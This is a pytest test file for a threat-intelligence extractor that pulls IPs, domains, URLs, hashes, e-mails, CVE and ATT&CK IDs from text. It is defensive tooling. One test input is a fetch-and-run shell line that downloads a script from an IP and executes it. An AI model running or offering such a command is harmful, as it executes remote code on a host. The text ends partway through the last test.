"""Tests for generator.extract.indicators: every extraction rule, with positive and negative cases."""

from __future__ import annotations

import functools
import ipaddress
import re
import string

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from generator.extract.domains import load_allowlist
from generator.extract.indicators import IOC_TYPES, Indicator, extract


def values(text: str, kind: str, **kwargs: object) -> list[str]:
    return [i.value for i in extract(text, **kwargs) if i.type == kind]  # type: ignore[arg-type]


def only(text: str, kind: str) -> Indicator:
    found = [i for i in extract(text) if i.type == kind]
    assert len(found) == 1, found
    return found[0]


# --- API shape ---------------------------------------------------------------------------


def test_ioc_types() -> None:
    assert IOC_TYPES == (
        "ipv4", "ipv6", "domain", "url", "md5", "sha1", "sha256", "sha512", "email", "cve",
        "mitre_attack",
    )  # fmt: skip


def test_empty_input() -> None:
    assert extract("") == []
    assert extract("   \n\n ") == []


def test_indicator_is_frozen() -> None:
    ind = only("C2 at 185.220.101.4 today", "ipv4")
    with pytest.raises(AttributeError):
        ind.value = "x"  # type: ignore[misc]


def test_dedupe_keeps_first_context_and_highest_confidence() -> None:
    text = "We saw 185.220.101.4 in the logs once.\n- 185.220.101.4\nAnd 185.220.101.4 again."
    ind = only(text, "ipv4")
    assert ind.context == "We saw 185.220.101.4 in the logs once."
    assert ind.confidence == "high"
    assert ind.defanged is False


def test_defanged_flag_is_sticky() -> None:
    ind = only("Beacon to evilcorp.top was seen. Later evilcorp[.]top again.", "domain")
    assert ind.defanged is True
    assert ind.context == "Beacon to evilcorp.top was seen."


def test_order_of_first_appearance() -> None:
    text = "First badhost.top, then 185.220.101.4, then CVE-2023-4966, then badhost.top."
    assert [(i.type, i.value) for i in extract(text)] == [
        ("domain", "badhost.top"),
        ("ipv4", "185.220.101.4"),
        ("cve", "CVE-2023-4966"),
    ]


# --- refanging ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "kind", "value"),
    [
        ("hxxp://evil-site.com/a", "url", "http://evil-site.com/a"),
        ("hxxps://evil-site.com/a", "url", "https://evil-site.com/a"),
        ("hXXps://evil-site.com/a", "url", "https://evil-site.com/a"),
        ("HXXP://evil-site.com/a", "url", "http://evil-site.com/a"),
        ("fxp://files.evil-site.com/x.bin", "url", "ftp://files.evil-site.com/x.bin"),
        ("hxxps[:]//evil-site[.]com/a", "url", "https://evil-site.com/a"),
        ("hxxps[://]evil-site[.]com/a", "url", "https://evil-site.com/a"),
        ("http[:]//evil-site(.)com/a", "url", "http://evil-site.com/a"),
        ("hxxp://evil-site.com[/]a", "url", "http://evil-site.com/a"),
        ("hxxp://evil dot com/a", "url", "http://evil.com/a"),
        ("evil-site[.]com", "domain", "evil-site.com"),
        ("evil-site(.)com", "domain", "evil-site.com"),
        ("evil-site{.}com", "domain", "evil-site.com"),
        ("evil-site[dot]com", "domain", "evil-site.com"),
        ("evil-site(dot)com", "domain", "evil-site.com"),
        ("evil-site [.] com", "domain", "evil-site.com"),
        ("evil-site DOT com", "domain", "evil-site.com"),
        ("evil-site\\.com", "domain", "evil-site.com"),
        ("185.220.101[.]4", "ipv4", "185.220.101.4"),
        ("185[.]220[.]101[.]4", "ipv4", "185.220.101.4"),
        ("ops[at]evil-site[.]com", "email", "ops@evil-site.com"),
        ("ops(at)evil-site.com", "email", "ops@evil-site.com"),
        ("ops[@]evil-site.com", "email", "ops@evil-site.com"),
        ("ops [at] evil-site [dot] com", "email", "ops@evil-site.com"),
        ("ops[at]evil dot com", "email", "ops@evil.com"),
    ],
)
def test_refang_forms(text: str, kind: str, value: str) -> None:
    ind = only(f"Observed {text} yesterday.", kind)
    assert ind.value == value
    assert ind.defanged is True
    assert ind.confidence == "high"
    assert text in ind.context


def test_plain_dot_word_in_prose_is_not_refanged() -> None:
    assert extract("The red dot in the map marks the site.") == []
    assert values("Click the dot com button", "domain") == []


def test_defanged_bare_domain_is_not_a_url() -> None:
    found = extract("Blocked evil-site[.]com and 185.220.101[.]4 at the proxy.")
    assert {i.type for i in found} == {"domain", "ipv4"}


def test_context_keeps_defanged_form() -> None:
    ind = only("Block hxxps[:]//evil-site[.]com/x now. Next sentence.", "url")
    assert ind.context == "Block hxxps[:]//evil-site[.]com/x now."


# --- URLs --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "url"),
    [
        ("see https://evil-site.com/a.", "https://evil-site.com/a"),
        ("see (https://evil-site.com/a)", "https://evil-site.com/a"),
        ("see https://evil-site.com/a_(b) now", "https://evil-site.com/a_(b)"),
        ("see (https://evil-site.com/a_(b)).", "https://evil-site.com/a_(b)"),
        ("see [https://evil-site.com/a]", "https://evil-site.com/a"),
        ('href="https://evil-site.com/a"', "https://evil-site.com/a"),
        ("'https://evil-site.com/a';", "https://evil-site.com/a"),
        ("<https://evil-site.com/a>", "https://evil-site.com/a"),
        ("go to https://evil-site.com/a!?", "https://evil-site.com/a"),
        ("HTTPS://Evil-Site.COM/Path?Q=AbC", "https://evil-site.com/Path?Q=AbC"),
        ("http://evil-site.com:8080/gate.php?id=1", "http://evil-site.com:8080/gate.php?id=1"),
        ("ftp://files.evil-site.com/x.bin", "ftp://files.evil-site.com/x.bin"),
        ("http://185.220.101.4/x", "http://185.220.101.4/x"),
        ("http://[2606:4700:4700:0::1111]:8443/x", "http://[2606:4700:4700::1111]:8443/x"),
        ("https://evil-site.com", "https://evil-site.com"),
    ],
)
def test_urls(text: str, url: str) -> None:
    assert values(text, "url") == [url]


def test_url_host_is_not_a_domain() -> None:
    found = extract("Payload at https://evil-site.com/p.bin was fetched.")
    assert [(i.type, i.value) for i in found] == [("url", "https://evil-site.com/p.bin")]


def test_url_ip_host_is_also_reported_as_the_address() -> None:
    line = "cd /tmp; wget http://185.220.101.4/x.sh; chmod +x x.sh; ./x.sh"
    found = [(i.type, i.value) for i in extract(line)]
    assert found == [("url", "http://185.220.101.4/x.sh"), ("ipv4", "185.220.101.4")]
    assert values("get http://[2a0b:4140:6b12::2]:8080/dl.sh now", "ipv6") == ["2a0b:4140:6b12::2"]
    assert values("see https://user@8.8.4.4:8443/a", "ipv4") == ["8.8.4.4"]
    assert values("http://192.168.1.10/x and http://185.220.101.4.example.org/", "ipv4") == []


def test_domain_alone_elsewhere_is_still_reported() -> None:
    text = "Payload at https://evil-site.com/p.bin. Later evil-site.com resolved."
    assert values(text, "domain") == ["evil-site.com"]


def test_userinfo_trick() -> None:
    text = "Phish: https://google.com@bad-host.top/login now"
    assert values(text, "url") == ["https://google.com@bad-host.top/login"]
    assert values("https://bad-host.top@google.com/x", "url") == []


@pytest.mark.parametrize(
    "text",
    [
        "http://localhost:8080/admin",
        "http://192.168.1.10/admin",
        "http://10.0.0.1/",
        "http://intranet/",
        "http://evil.notarealtld/x",
        "https://www.google.com/search?q=x",
        "https://github.com/org/repo",
        "https://docs.microsoft.com/en-us/x",
        "http:// spaced.com",
    ],
)
def test_url_rejections(text: str) -> None:
    assert values(text, "url") == []


def test_defanged_url_on_allowlisted_host_is_kept() -> None:
    text = "Phishing page: hxxps://docs[.]google[.]com/forms/d/abc"
    ind = only(text, "url")
    assert ind.value == "https://docs.google.com/forms/d/abc"
    assert ind.defanged


# --- domains -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "domain"),
    [
        ("Beacon to Update-Check.xyz every hour", "update-check.xyz"),
        ("C2 resolved cdn.evil-site.co.uk.", "cdn.evil-site.co.uk"),
        ("fqdn evil-site.com. is absolute", "evil-site.com"),
        ("punycode xn--80ak6aa92e.com seen", "xn--80ak6aa92e.com"),
        ("onion site abcdefghij234567.onion seen", "abcdefghij234567.onion"),
        ("Evil-site.ru was first", "evil-site.ru"),
        ("EVIL-SITE.RU in caps", "evil-site.ru"),
        ("domain: evil-site.com", "evil-site.com"),
    ],
)
def test_domains(text: str, domain: str) -> None:
    assert values(text, "domain") == [domain]


@pytest.mark.parametrize(
    "text",
    [
        # file names whose extension is also a TLD
        "ran loader.sh then",
        "dropped libs.zip in temp",
        "see notes.md for details",
        "executed update.py as root",
        "Perl script run.pl and module Util.pm",
        "loaded libfoo.so via LD_PRELOAD",
        "video clip.mov attached",
        "bundle Payload.app copied",
        "installer setup.exe ran",
        "archive.rar extracted",
        "config.json parsed",
        "source map main.js.map",
        "OneNote lure invoice.one opened",
        "key id_rsa.pub copied",
        # detection names
        "detected as Trojan.Agent.ET by vendors",
        "flagged Win32.Emotet.A",
        "flagged HEUR:Trojan.Win32.Generic",
        "Trojan:Win32/Qakbot.PA!MTB",
        "Backdoor.Linux.Mirai.B",
        "trojan.msil.agent.ml",
        "emotet.PA variant",
        # .NET, packages and code
        "uses System.IO and System.Net",
        "requires Microsoft.NET runtime",
        "package com.example.app installed",
        "class org.apache.commons.io",
        "calls window.top and document.domain",
        "sets self.name early",
        # not a domain at all
        "e.g. this, i.e. that, U.K. and U.S. readers",
        "version 2.4.1 shipped",
        "bad.notarealtld here",
        "single label localhost",
        "path C:\\Windows\\evil.com",
        "path /var/www/evil.com",
        "co.uk alone",
    ],
)
def test_domain_rejections(text: str) -> None:
    assert values(text, "domain") == []


def test_defang_overrides_file_extension_tld() -> None:
    assert values("Phishing domain invoice-docs[.]zip registered", "domain") == ["invoice-docs.zip"]


def test_allowlisted_domains_dropped() -> None:
    text = "Visit microsoft.com, login.microsoftonline.com and example.org for docs."
    assert values(text, "domain") == []
    assert values("defanged microsoft[.]com still dropped", "domain") == []


def test_allowlist_override() -> None:
    text = "Beacons to evil-site.com and microsoft.com."
    assert values(text, "domain", allowlist=frozenset({"evil-site.com"})) == ["microsoft.com"]
    assert values(text, "domain", allowlist=frozenset()) == ["evil-site.com", "microsoft.com"]


def test_bundled_allowlist_contents() -> None:
    allow = load_allowlist()
    for domain in ("microsoft.com", "google.com", "github.com", "mitre.org", "example.com"):
        assert domain in allow
    assert all(d == d.lower() and not d.startswith("#") for d in allow)


def test_load_allowlist_from_file(tmp_path) -> None:  # type: ignore[no-untyped-def]
    path = tmp_path / "allow.txt"
    path.write_text("# comment\nEvil-Site.COM  # trailing\n\n*.other.net\n", encoding="utf-8")
    allow = load_allowlist(path)
    assert allow == frozenset({"evil-site.com", "other.net"})
    assert values("seen evil-site.com and x.other.net", "domain", allowlist=allow) == []


def test_exclude_domains() -> None:
    text = (
        "Read more at https://blog.vendor-news.com/post and mail tips@vendor-news.com. "
        "Mirror vendor-news.com and cdn.vendor-news.com. Real C2 evil-site.com."
    )
    found = extract(text, exclude_domains=["www.vendor-news.com"])
    assert [(i.type, i.value) for i in found] == [("domain", "evil-site.com")]
    found = extract(text, exclude_domains=["https://vendor-news.com/feed.xml"])
    assert [(i.type, i.value) for i in found] == [("domain", "evil-site.com")]


def test_exclude_domains_applies_to_defanged_too() -> None:
    assert extract("hxxps://vendor-news[.]com/x", exclude_domains=["vendor-news.com"]) == []


# --- IPv4 --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "ip"),
    [
        ("C2 185.220.101.4 seen", "185.220.101.4"),
        ("C2 185.220.101.4.", "185.220.101.4"),
        ("C2 185.220.101.4:443 seen", "185.220.101.4"),
        ("range 45.33.32.0/24", "45.33.32.0"),
        ("(8.8.8.8)", "8.8.8.8"),
        ("ip=1.1.1.1,", "1.1.1.1"),
        ("edge 223.255.254.1", "223.255.254.1"),
    ],
)
def test_ipv4(text: str, ip: str) -> None:
    assert values(text, "ipv4") == [ip]


@pytest.mark.parametrize(
    "text",
    [
        "lan 192.168.1.1",
        "lan 10.1.2.3",
        "lan 172.16.5.4",
        "loop 127.0.0.1",
        "link 169.254.1.1",
        "mcast 224.0.0.251",
        "reserved 240.0.0.1",
        "bcast 255.255.255.255",
        "zero 0.0.0.0",
        "doc 192.0.2.1 198.51.100.7 203.0.113.9",
        "cgnat 100.64.1.1",
        "octet 1.2.3.256",
        "leading 01.02.03.04",
        "v1.2.3.4",
        "version 1.2.3.4",
        "Version: 8.8.4.4",
        "ver. 8.8.4.4",
        "build 8.8.4.4",
        "release 8.8.4.4 notes",
        "oid 1.3.6.1.4.1.311",
        "long 8.8.8.8.8",
        "prefixed .8.8.8.8",
        "abc8.8.8.8",
        "8.8.8.8abc",
    ],
)
def test_ipv4_rejections(text: str) -> None:
    assert values(text, "ipv4") == []


# --- IPv6 --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "ip"),
    [
        ("C2 2606:4700:4700::1111 seen", "2606:4700:4700::1111"),
        ("C2 2606:4700:4700:0000:0000:0000:0000:1111.", "2606:4700:4700::1111"),
        ("C2 2A03:2880:F12F:83:FACE:B00C:0:25DE, then", "2a03:2880:f12f:83:face:b00c:0:25de"),
        ("C2 [2606:4700::6810:85e5]:443", "2606:4700::6810:85e5"),
        ("C2 2606:4700:4700::1111:", "2606:4700:4700::1111"),
    ],
)
def test_ipv6(text: str, ip: str) -> None:
    assert values(text, "ipv6") == [ip]


@pytest.mark.parametrize(
    "text",
    [
        "at 12:30:45 UTC",
        "at 2024-01-01 12:30:45.123",
        "mac 00:1a:2b:3c:4d:5e",
        "mac 00:1A:2B:3C:4D:5E:6F:70",
        "empty :: alone",
        "loop ::1",
        "doc 2001:db8::1",
        "link fe80::1",
        "ula fd00::1",
        "mcast ff02::1",
        "c++ std::vector::size",
        "ratio 1:2:3",
    ],
)
def test_ipv6_rejections(text: str) -> None:
    assert values(text, "ipv6") == []


# --- hashes ------------------------------------------------------------------------------

MD5 = "d41d8cd98f00b204e9800998ecf8427e"
SHA1 = "da39a3ee5e6b4b0d3255bfef95601890afd80709"
SHA256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
SHA512 = (
    "cf83e1357eefb8bdf1542850d66d8007d620e4050b5715dc83f4a921d36ce9ce"
    "47d0d13c5d85f2b0ff8318d2877eec2f63b931bd47417a81a538327af927da3e"
)


@pytest.mark.parametrize(
    ("kind", "value"), [("md5", MD5), ("sha1", SHA1), ("sha256", SHA256), ("sha512", SHA512)]
)
def test_hashes(kind: str, value: str) -> None:
    ind = only(f"The sample {value.upper()} dropped a second stage.", kind)
    assert ind.value == value
    assert ind.confidence == "medium"
    assert only(f"sha: {value}", kind).confidence == "high"


@pytest.mark.parametrize(
    "text",
    [
        "addr 0x" + MD5,
        "run " + MD5 + "a",
        "run " + MD5 + "g",
        "run g" + MD5,
        "run " + SHA256 + SHA256[:3],
        "zeros " + "0" * 32,
        "fs " + "f" * 64,
        "short " + MD5[:31],
        "between " + "a" * 50,
    ],
)
def test_hash_rejections(text: str) -> None:
    assert [i for i in extract(text) if i.type in ("md5", "sha1", "sha256", "sha512")] == []


def test_all_digit_hash_is_kept() -> None:
    assert values("sample 12345678901234567890123456789012 seen", "md5") == [
        "12345678901234567890123456789012"
    ]


def test_hash_inside_url_is_reported() -> None:
    text = f"VT: https://www.virustotal.com/gui/file/{SHA256}/detection"
    assert values(text, "sha256") == [SHA256]
    assert values(text, "url") == []


def test_hashes_in_list_are_high() -> None:
    text = f"Hashes observed: {MD5}, {SHA1}, {SHA256} and more in the campaign."
    assert {i.confidence for i in extract(text)} == {"high"}


# --- e-mail ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "email"),
    [
        ("mail Ops.Team+x@Evil-Site.COM now", "ops.team+x@evil-site.com"),
        ("<billing@evil-site.co.uk>", "billing@evil-site.co.uk"),
        ("reply to ops@evil-site.com.", "ops@evil-site.com"),
    ],
)
def test_emails(text: str, email: str) -> None:
    assert values(text, "email") == [email]


@pytest.mark.parametrize(
    "text",
    [
        "handle @evil-site",
        "ops@localhost",
        "ops@evil.notarealtld",
        "retina icon@2x.png",
        "package lodash@4.17.21",
        "press@microsoft.com",
        "git@github.com:org/repo.git",
    ],
)
def test_email_rejections(text: str) -> None:
    assert values(text, "email") == []


def test_email_domain_not_reported_as_domain() -> None:
    found = extract("Sent from ops@evil-site.com today.")
    assert [i.type for i in found] == ["email"]


def test_defanged_email_on_allowlisted_host_is_kept() -> None:
    assert values("sender ceo[at]microsoft[.]com spoofed", "email") == ["ceo@microsoft.com"]


# --- CVE and ATT&CK ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "cve"),
    [
        ("Patch CVE-2024-3400 now", "CVE-2024-3400"),
        ("patch cve-2021-44228.", "CVE-2021-44228"),
        ("(CVE-2023-1234567)", "CVE-2023-1234567"),
        ("CVE\u20112022\u201130190 with non-breaking hyphens", "CVE-2022-30190"),
    ],
)
def test_cves(text: str, cve: str) -> None:
    assert values(text, "cve") == [cve]


@pytest.mark.parametrize("text", ["CVE-24-1234", "CVE-2024-123", "XCVE-2024-1234", "CVE-2024"])
def test_cve_rejections(text: str) -> None:
    assert values(text, "cve") == []


@pytest.mark.parametrize(
    ("text", "tid"),
    [
        ("uses T1059 for execution", "T1059"),
        ("uses T1059.001.", "T1059.001"),
        ("(t1566.002)", "T1566.002"),
        ("https://attack.mitre.org/techniques/T1105/", "T1105"),
    ],
)
def test_attack_ids(text: str, tid: str) -> None:
    assert values(text, "mitre_attack") == [tid]


@pytest.mark.parametrize(
    "text",
    ["XT1059", "T10590", "T1059a", "TA0001", "T1059.0012", "T2000 model", "1.T1059", "T1059_x"],
)
def test_attack_rejections(text: str) -> None:
    assert values(text, "mitre_attack") == []


# --- context and confidence ---------------------------------------------------------------


def test_context_is_the_sentence() -> None:
    text = "First sentence here. The loader contacted evil-site.com over TLS! Another one."
    assert only(text, "domain").context == "The loader contacted evil-site.com over TLS!"


def test_context_stops_at_line_end() -> None:
    text = "Heading line\nThe loader contacted evil-site.com\nNext line"
    assert only(text, "domain").context == "The loader contacted evil-site.com"


def test_context_collapses_whitespace() -> None:
    text = "The   loader\tcontacted   evil-site.com   today."
    assert only(text, "domain").context == "The loader contacted evil-site.com today."


def test_context_is_truncated_around_the_ioc() -> None:
    text = "word " * 200 + "evil-site.com " + "more " * 200
    ctx = only(text, "domain").context
    assert len(ctx) <= 300
    assert "evil-site.com" in ctx
    assert ctx.startswith("…") and ctx.endswith("…")


def test_context_of_table_row() -> None:
    text = "Type | Value | Note\nipv4 | 185.220.101.4 | C2 server\n"
    ind = only(text, "ipv4")
    assert ind.context == "ipv4 | 185.220.101.4 | C2 server"
    assert ind.confidence == "high"


@pytest.mark.parametrize(
    ("text", "kind", "confidence"),
    [
        ("The implant beaconed to evil-site.com every hour.", "domain", "low"),
        ("The implant beaconed to 185.220.101.4 every hour.", "ipv4", "low"),
        ("The implant beaconed to evil-site[.]com every hour.", "domain", "high"),
        ("The implant fetched https://evil-site.com/a every hour.", "url", "medium"),
        ("Victims got mail from ops@evil-site.com last week.", "email", "medium"),
        ("Attackers exploited CVE-2024-3400 in the firewall.", "cve", "medium"),
        ("Attackers used T1059.001 to run scripts on hosts.", "mitre_attack", "medium"),
        (f"The dropper {MD5} was signed with a stolen cert.", "md5", "medium"),
        ("- evil-site.com", "domain", "high"),
        ("* 185.220.101.4 (C2)", "ipv4", "high"),
        ("evil-site.com", "domain", "high"),
        ("domain | evil-site.com | phishing kit host, first seen in March", "domain", "high"),
        ("Network indicators: 185.220.101.4, 45.33.32.156, 8.8.4.4", "ipv4", "high"),
    ],
)
def test_confidence(text: str, kind: str, confidence: str) -> None:
    assert [i for i in extract(text) if i.type == kind][0].confidence == confidence


# --- property-based ---------------------------------------------------------------------

_LABEL = st.text(string.ascii_lowercase + string.digits, min_size=2, max_size=10).map(
    lambda s: "q" + s  # never a detection word, code object or allowlisted name
)
_TLD = st.sampled_from(["com", "net", "org", "ru", "info", "xyz", "top", "io", "co.uk", "zip"])
_DOMAIN = st.builds(
    lambda labels, tld: ".".join([*labels, tld]), st.lists(_LABEL, min_size=1, max_size=3), _TLD
)
_DOTS = st.sampled_from(["[.]", "(.)", "{.}", "[dot]", "(dot)", "\\.", " [.] ", "[DOT]"])
_GLOBAL_IPV4 = st.ip_addresses(v=4).filter(
    lambda ip: ip.is_global and not ip.is_multicast and not ip.is_reserved
)


def _defang_dots(value: str, styles: list[str]) -> str:
    parts = value.split(".")
    out = parts[0]
    for i, part in enumerate(parts[1:]):
        out += styles[i % len(styles)] + part
    return out


@settings(max_examples=200, suppress_health_check=[HealthCheck.too_slow])
@given(domain=_DOMAIN, styles=st.lists(_DOTS, min_size=1, max_size=4))
def test_refang_domain_roundtrip(domain: str, styles: list[str]) -> None:
    found = extract(f"Blocked {_defang_dots(domain, styles)} at the proxy.")
    assert [(i.type, i.value, i.defanged) for i in found] == [("domain", domain, True)]


@settings(max_examples=200)
@given(ip=_GLOBAL_IPV4, styles=st.lists(_DOTS, min_size=1, max_size=3))
def test_refang_ipv4_roundtrip(ip: ipaddress.IPv4Address, styles: list[str]) -> None:
    found = extract(f"Beacon to {_defang_dots(str(ip), styles)} observed.")
    assert [(i.type, i.value, i.defanged) for i in found] == [("ipv4", str(ip), True)]


_SCHEMES = st.sampled_from(
    [("hxxp", "http"), ("hxxps", "https"), ("hXXp", "http"), ("hXXps", "https"),
     ("HXXPS", "https"), ("fxp", "ftp"), ("http", "http"), ("https", "https")]
)  # fmt: skip
_SEPS = st.sampled_from(["://", "[:]//", "[://]", "(:)//"])
_PATH = st.text(string.ascii_letters + string.digits + "/_-=?&", max_size=20).map(
    lambda p: "/" + p + "x"  # a URL's trailing punctuation is trimmed, so end on a letter
)


@settings(max_examples=200, suppress_health_check=[HealthCheck.too_slow])
@given(
    scheme=_SCHEMES,
    sep=_SEPS,
    host=st.one_of(_DOMAIN, _GLOBAL_IPV4.map(str)),
    styles=st.lists(_DOTS.filter(lambda d: " " not in d), min_size=1, max_size=3),
    path=_PATH,
)
def test_refang_url_roundtrip(
    scheme: tuple[str, str], sep: str, host: str, styles: list[str], path: str
) -> None:
    written = f"{scheme[0]}{sep}{_defang_dots(host, styles)}{path}"
    found = extract(f"Download from {written} today")
    expected = [("url", f"{scheme[1]}://{host}{path}", True)]
    if host[0].isdigit():  # an address as host is also reported as the address
        expected.append(("ipv4", host, True))
    assert [(i.type, i.value, i.defanged) for i in found] == expected


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
@given(st.text(max_size=400))
def test_extract_never_raises(text: str) -> None:
    for ind in extract(text):
        assert ind.type in IOC_TYPES
        assert ind.confidence in ("high", "medium", "low")
        assert len(ind.context) <= 300


_IOC_ALPHABET = string.ascii_letters + string.digits + ".:/[]()@-_ \n|\\{}hxtp"


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
@given(st.text(alphabet=_IOC_ALPHABET, max_size=300))
def test_extract_never_raises_on_ioc_like_text(text: str) -> None:
    found = extract(text)
    keys = [(i.type, i.value) for i in found]
    assert len(keys) == len(set(keys))


# ---- fast paths agree with the straightforward forms ----------------------------------


def _ipaddress_v4(text: str) -> str | None:
    from generator.extract.match import valid_ip

    ip = valid_ip(text)
    return ip.compressed if ip is not None and ip.version == 4 else None


@pytest.mark.parametrize(
    "net",
    ["0.0.0.0/8", "10.0.0.0/8", "100.64.0.0/10", "127.0.0.0/8", "169.254.0.0/16",
     "172.16.0.0/12", "192.0.0.0/29", "192.0.0.170/31", "192.0.2.0/24", "192.168.0.0/16",
     "198.18.0.0/15", "198.51.100.0/24", "203.0.113.0/24", "224.0.0.0/4", "240.0.0.0/4"],
)  # fmt: skip
def test_valid_ipv4_matches_ipaddress_at_range_edges(net: str) -> None:
    from generator.extract.match import valid_ipv4

    n = ipaddress.IPv4Network(net)
    for x in (
        int(n.network_address) - 1,
        int(n.network_address),
        int(n.broadcast_address),
        int(n.broadcast_address) + 1,
    ):
        if 0 <= x < 2**32:
            text = str(ipaddress.IPv4Address(x))
            assert valid_ipv4(text) == _ipaddress_v4(text), text


@given(st.lists(st.integers(0, 300), min_size=4, max_size=4), st.booleans())
def test_valid_ipv4_matches_ipaddress(octets: list[int], zero_pad: bool) -> None:
    from generator.extract.match import valid_ipv4

    parts = [f"0{o}" if zero_pad and i == 2 else str(o) for i, o in enumerate(octets)]
    text = ".".join(parts)
    assert valid_ipv4(text) == _ipaddress_v4(text)


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
@given(st.text(alphabet=".!? \n\tAbZc.:-@[]()xhd1T9fe", max_size=900), st.data())
def test_anchored_scans_and_contexts_match_full_scans(text: str, data: st.DataObject) -> None:
    from generator.extract import match as m
    from generator.extract.context import SentenceContexts, sentence_context

    runs = (
        (m._DOMAIN, ".", m._HOST_RUN_CHARS),
        (m._IPV4, ".", m._IPV4_RUN_CHARS),
        (m._IPV6, ":", m._IPV6_RUN_CHARS),
    )
    for pattern, mark, chars in runs:
        assert [x.span() for x in m._run_matches(text, pattern, mark, chars)] == [
            x.span() for x in pattern.finditer(text)
        ]
    assert [x.span() for x in m._email_matches(text)] == [x.span() for x in m._EMAIL.finditer(text)]
    start = data.draw(st.integers(0, len(text)))
    end = data.draw(st.integers(start, len(text)))
    assert SentenceContexts(text)(start, end) == sentence_context(text, start, end)


def _ipaddress_v6(text: str) -> str | None:
    from generator.extract.match import valid_ip

    ip = valid_ip(text)
    return ip.compressed if ip is not None and ip.version == 6 else None


def _v6_forms(ip: ipaddress.IPv6Address) -> list[str]:
    unpadded = ":".join(h.lstrip("0") or "0" for h in ip.exploded.split(":"))
    return [ip.compressed, ip.exploded, ip.exploded.upper(), unpadded]


def _ipaddress_v6_networks() -> list[ipaddress.IPv6Network]:
    """The networks behind ``ipaddress``'s IPv6 is_private/is_reserved/is_multicast/...."""
    constants = ipaddress.IPv6Address._constants  # type: ignore[attr-defined]
    nets: list[ipaddress.IPv6Network] = []
    for value in vars(constants).values():
        if isinstance(value, ipaddress.IPv6Network):
            nets.append(value)
        elif isinstance(value, list):
            nets += [n for n in value if isinstance(n, ipaddress.IPv6Network)]
    return nets


def test_valid_ipv6_matches_ipaddress_at_range_edges() -> None:
    from generator.extract.match import _BLOCKED6_FIRST, _BLOCKED6_LAST, valid_ipv6

    edges = [*zip(_BLOCKED6_FIRST, _BLOCKED6_LAST, strict=True)]
    edges += [(int(n.network_address), int(n.broadcast_address)) for n in _ipaddress_v6_networks()]
    assert len(edges) > 20
    for first, last in edges:
        for x in (first - 1, first, first + 1, last - 1, last, last + 1):
            if 0 <= x < 2**128:
                for text in _v6_forms(ipaddress.IPv6Address(x)):
                    assert valid_ipv6(text) == _ipaddress_v6(text), text
    assert valid_ipv6("fec0::1") == "fec0::1"  # site-local: neither private nor reserved


_HEXTET = st.one_of(st.just(0), st.integers(0, 15), st.integers(0, 0xFFFF))
_FIRST_HEXTET = st.one_of(
    st.sampled_from(
        [
            0x2001,
            0x2002,
            0x2606,
            0x2A00,
            0x3FFF,
            0x4000,
            0xFC00,
            0xFD12,
            0xFE00,
            0xFE80,
            0xFEC0,
            0xFEFF,
            0xFF00,
            0xFF02,
            0x0100,
            0x0000,
        ]
    ),
    _HEXTET,
)


@given(_FIRST_HEXTET, st.lists(_HEXTET, min_size=7, max_size=7))
def test_valid_ipv6_matches_ipaddress(first: int, rest: list[int]) -> None:
    from generator.extract.match import valid_ipv6

    ip = ipaddress.IPv6Address(int("".join(f"{h:04x}" for h in [first, *rest]), 16))
    for text in _v6_forms(ip):
        assert valid_ipv6(text) == _ipaddress_v6(text), text


@settings(max_examples=500)
@given(st.text(alphabet="0123456789abcdefABCDEF:::.", max_size=45))
def test_valid_ipv6_matches_ipaddress_on_any_text(text: str) -> None:
    from generator.extract.match import valid_ipv6

    assert valid_ipv6(text) == _ipaddress_v6(text)


_SCAN_ALPHABET = "0123456789abcdefABCDEFcveCVEtThpxf-.:/@ \n[]é‐"


_SCAN_PIECES = ["http://", "https://", "ftp://", "CVE-2024-1234", "cve‑2021‑44228", "a" * 32,
                "f" * 40, "0123456789abcdef" * 4, "0123456789abcdef" * 8,
                "0123456789abcdef" * 9, "évil.com"]  # fmt: skip
_SCAN_TEXT = st.one_of(st.text(alphabet=_SCAN_ALPHABET, max_size=12), st.sampled_from(_SCAN_PIECES))


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(_SCAN_TEXT, max_size=30).map("".join))
def test_anchored_url_hash_cve_scans_match_full_scans(text: str) -> None:
    from generator.extract import match as m

    ascii_text = text.encode("ascii", "replace")
    assert len(ascii_text) == len(text)
    assert [x.span() for x in m._url_matches(text)] == [x.span() for x in m._URL.finditer(text)]
    assert [x.span() for x in m._hash_matches(text, ascii_text)] == [
        x.span() for x in m._HASH.finditer(text)
    ]
    assert [x.span() for x in m._cve_matches(text, ascii_text.lower())] == [
        x.span() for x in m._CVE.finditer(text)
    ]


@settings(max_examples=300)
@given(st.text(alphabet=".!? \n\t\xa0AbZc.", max_size=300))
def test_sentence_end_variants_agree(text: str) -> None:
    from generator.extract.context import _SENT_END, _SENT_END_DOTS

    reference = re.compile(r"[.!?]+[\s]+(?=[A-Z])")
    assert [x.span() for x in _SENT_END.finditer(text)] == [
        x.span() for x in reference.finditer(text)
    ]
    if "!" not in text and "?" not in text:
        assert [x.span() for x in _SENT_END_DOTS.finditer(text)] == [
            x.span() for x in reference.finditer(text)
        ]


_HOSTNAME_SHAPE = re.compile(r"(?:(?!-)[a-z0-9-]{1,63}(?<!-)\.)+(?!-)[a-z0-9-]{1,63}(?<!-)")


@functools.cache
def _psl_reference():  # type: ignore[no-untyped-def]
    from publicsuffixlist import PublicSuffixList

    return PublicSuffixList(only_icann=True, accept_unknown=False)


def test_public_suffix_rules_match_publicsuffixlist() -> None:
    from generator.extract.domains import _public_labels, _suffix_rules, is_valid_domain

    psl = _psl_reference()
    rules = _suffix_rules()
    names = sorted(rules.exact | rules.wildcard | rules.exception)
    assert len(names) > 7000
    checked = 0
    for name in names:
        for prefix in ("", "a.", "a.b.", "www.", "x-1.y.z."):
            domain = prefix + name
            if not _HOSTNAME_SHAPE.fullmatch(domain):
                continue  # IDN rules as written, "*" and "!" rules: no hostname has them
            checked += 1
